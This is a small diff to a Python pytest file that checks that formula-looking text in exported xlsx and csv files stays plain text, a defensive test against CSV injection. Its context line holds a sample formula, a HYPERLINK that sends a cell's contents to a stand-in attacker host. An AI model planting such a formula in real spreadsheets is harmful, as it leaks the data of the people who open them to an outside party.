@@ -80,7 +80,8 @@ FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3"
 
 
 @pytest.mark.parametrize("suffix", ["xlsx", "csv"])
-def test_formula_looking_text_comes_back_as_text(quantdesk_home: Path, tmp_path: Path, suffix: str) -> None:
+def test_formula_looking_text_comes_back_as_text(quantdesk_home: Path, tmp_path: Path, suffix: str,
+                                                 operator: str) -> None:
     """OWASP CSV injection: a risk-event reason and an actor that look like formulas stay text;
     numbers and dates keep their types."""
     with Ledger() as ledger:
